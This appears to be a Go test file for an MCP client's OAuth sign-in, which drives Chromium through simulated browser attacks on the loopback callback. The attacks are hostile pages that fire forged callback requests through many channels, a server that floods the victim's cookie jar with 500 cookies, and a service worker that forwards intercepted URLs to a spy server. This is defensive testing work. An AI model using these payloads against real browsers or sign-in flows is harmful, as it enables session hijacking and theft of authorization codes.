package attacks

import (
	"context"
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"github.com/chromedp/chromedp"

	"github.com/astravue/mcp-client-go/internal/testenv"
	"github.com/astravue/mcp-client-go/mcpclient"
	"github.com/astravue/mcp-client-go/sandbox"
)

const aWebPage = "a web page in the victim's browser"

// chromiumAttacks are those that need a real browser, with its cookies and caches.
var chromiumAttacks = []attack{
	{
		id: "callback-page-embeds", who: aWebPage, gains: "an answer counts, or the person's does not",
		does: "knows the port, and loads the callback with an answer of its own in frames, as images, scripts and styles, by fetch, prefetch, speculation rules, a form and a window",
		play: func(t *testing.T) (bool, string) {
			browser := testenv.Chromium(t)
			s := sit(t, nil)
			hostile := page(t, func(w http.ResponseWriter, _ *http.Request) {
				u := "http://" + s.host + "/callback?code=x&amp;state=y"
				_, _ = fmt.Fprintf(w, `<!doctype html><body><iframe src="%[1]s"></iframe><img src="%[1]s"><script src="%[1]s"></script>
<link rel=stylesheet href="%[1]s"><link rel=prefetch href="%[1]s"><object data="%[1]s"></object>
<script type=speculationrules>{"prerender":[{"urls":["%[2]s"]}],"prefetch":[{"urls":["%[2]s"]}]}</script>
<form method=post action="%[1]s" target=f></form><iframe name=f></iframe>
<script>document.forms[0].submit(); fetch("%[2]s",{mode:"no-cors",credentials:"include"}).catch(()=>{}); window.open("%[2]s");
setTimeout(()=>document.title="done",300)</script>`, u, strings.ReplaceAll(u, "&amp;", "&"))
			})
			tab(t, browser, chromedp.Navigate(hostile))
			pageDone(t, browser)
			return inChromium(t, s, browser)
		},
	},
	{
		id: "callback-page-cookies", who: "a server on another port of 127.0.0.1", gains: "the cookie of the browser that was sent is evicted, and its answer does not count",
		does:   "sets 500 cookies in the victim's browser before it comes back",
		stands: "All ports of a host share one jar, and browsers keep about 180 cookies in it. A page tells the person how to paste the address, or the person signs in anew. Nobody else is signed in.",
		play: func(t *testing.T) (bool, string) {
			browser := testenv.Chromium(t)
			// On a host of its own: its cookies must not be evicted too.
			srv, err := sandbox.Start(sandbox.Options{Listen: "localhost:0"})
			if err != nil {
				t.Fatal(err)
			}
			t.Cleanup(func() { _ = srv.Close() })
			s := sit(t, func(c *mcpclient.Client) { c.Server = srv.URL() })
			toss := onLoopback(t, func(w http.ResponseWriter, _ *http.Request) {
				for i := range 500 {
					w.Header().Add("Set-Cookie", fmt.Sprintf("c%d=x; Path=/callback", i))
				}
				_, _ = fmt.Fprint(w, "<!doctype html><title>done</title>")
			})
			tab(t, browser, chromedp.Navigate(s.page))
			at, err := chromedp.Run(browser, chromedp.Location())
			if err != nil {
				t.Fatal(err)
			}
			s.page = at
			tab(t, browser, chromedp.WaitVisible(chromedp.CSS("#username")), chromedp.Navigate(toss))
			pageDone(t, browser)
			return inChromium(t, s, browser)
		},
	},
	{
		id: "callback-page-worker", who: "a server that had the port of the callback before", gains: asMia,
		does: "has left a service worker in the victim's browser, which answers for that address from then on and sees what comes back",
		play: func(t *testing.T) (bool, string) {
			browser := testenv.Chromium(t)
			told := make(chan string, 10)
			spy := page(t, func(_ http.ResponseWriter, r *http.Request) { told <- r.URL.Query().Get("u") })
			ln, err := net.Listen("tcp", "127.0.0.1:0")
			if err != nil {
				t.Fatal(err)
			}
			before := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
				if r.URL.Path == "/worker.js" {
					w.Header().Set("Content-Type", "text/javascript")
					_, _ = fmt.Fprintf(w, `self.addEventListener("install", e => self.skipWaiting()); self.addEventListener("activate", e => e.waitUntil(clients.claim()));
self.addEventListener("fetch", e => { if (e.request.mode == "navigate") { fetch(%q + "?u=" + encodeURIComponent(e.request.url), {mode: "no-cors"}); e.respondWith(fetch(e.request)) } })`, spy)
					return
				}
				_, _ = fmt.Fprint(w, `<!doctype html><script>navigator.serviceWorker.register("/worker.js").then(() => navigator.serviceWorker.ready).then(() => document.title = "done")</script>`)
			})}
			go func() { _ = before.Serve(ln) }()
			tab(t, browser, chromedp.Navigate("http://"+ln.Addr().String()+"/"))
			pageDone(t, browser)
			_ = before.Close()
			s := sit(t, func(c *mcpclient.Client) { c.Registration.RedirectURL = "http://" + ln.Addr().String() + "/callback" })
			won, seen := inChromium(t, s, browser)
			sees := 0
			for len(told) > 0 {
				if strings.Contains(<-told, "code=") {
					sees++
				}
			}
			return won, fmt.Sprintf("it sees %d code, which is spent, and worth nothing without the verifier; %s", sees, seen)
		},
	},
	{
		id: "callback-page-two", who: "another sign-in in the same browser", gains: "one takes the other's cookie away",
		does: "is begun on another port before the first sign-in comes back",
		play: func(t *testing.T) (bool, string) {
			browser := testenv.Chromium(t)
			one, two := sit(t, nil), sit(t, nil)
			tab(t, browser, chromedp.Navigate(one.page), chromedp.WaitVisible(chromedp.CSS("#username")))
			at, err := chromedp.Run(browser, chromedp.Location())
			if err != nil {
				t.Fatal(err)
			}
			if won, seen := inChromium(t, two, browser); won {
				return won, seen
			}
			one.page = at
			return inChromium(t, one, browser)
		},
	},
}

func tab(t *testing.T, browser context.Context, steps ...chromedp.Action[chromedp.Void]) {
	t.Helper()
	ctx, cancel := context.WithTimeout(browser, 30*time.Second)
	defer cancel()
	if err := chromedp.Do(ctx, steps...); err != nil {
		t.Fatal(err)
	}
}

// pageDone waits for what a page does at its end.
func pageDone(t *testing.T, browser context.Context) {
	t.Helper()
	for range 1000 {
		if title, err := chromedp.Run(browser, chromedp.Title()); err != nil {
			t.Fatal(err)
		} else if title == "done" {
			return
		}
		time.Sleep(10 * time.Millisecond)
	}
	t.Fatal("the page is not done")
}

// page serves a page on another site than 127.0.0.1.
func page(t *testing.T, serve http.HandlerFunc) string {
	return strings.Replace(onLoopback(t, serve), "127.0.0.1", "localhost", 1)
}

func onLoopback(t *testing.T, serve http.HandlerFunc) string {
	s := httptest.NewServer(serve)
	t.Cleanup(s.Close)
	t.Cleanup(s.CloseClientConnections)
	return s.URL + "/"
}

// inChromium has the person sign in in Chromium, and reports who is signed in.
func inChromium(t *testing.T, s *sitting, browser context.Context) (won bool, seen string) {
	t.Helper()
	tab(t, browser, chromedp.Navigate(s.page))
	for range 2 {
		is, err := chromedp.Run(browser, chromedp.Evaluate[string](`document.querySelector("#username") ? "form" : document.querySelector("#approve") ? "consent" : "end"`))
		if err != nil {
			t.Fatal(err)
		}
		switch is {
		case "form":
			tab(t, browser, chromedp.SendKeys(chromedp.CSS("#username"), "olivia"), chromedp.SendKeys(chromedp.CSS("#password"), "olivia-sandbox\n"), chromedp.WaitNotPresent(chromedp.CSS("#username")))
		case "consent":
			tab(t, browser, chromedp.WaitVisible(chromedp.CSS("#approve")), chromedp.Click(chromedp.CSS("#approve")), chromedp.WaitNotPresent(chromedp.CSS("#approve")))
		}
	}
	tab(t, browser, chromedp.WaitVisible(chromedp.CSS("main [role=status]")))
	heading, err := chromedp.Run(browser, chromedp.Evaluate[string](`document.querySelector("h1").innerText`))
	if err != nil {
		t.Fatal(err)
	}
	seen = "the page says “" + heading + "”"
	if heading != "You are signed in" {
		return true, seen
	}
	select {
	case err := <-s.done:
		s.done <- err
	case <-time.After(10 * time.Second):
		t.Fatal("the sign-in hangs")
	}
	who, err := s.ends()
	if err != nil {
		t.Fatal(err)
	}
	return who != "olivia", seen + ", to " + who
}
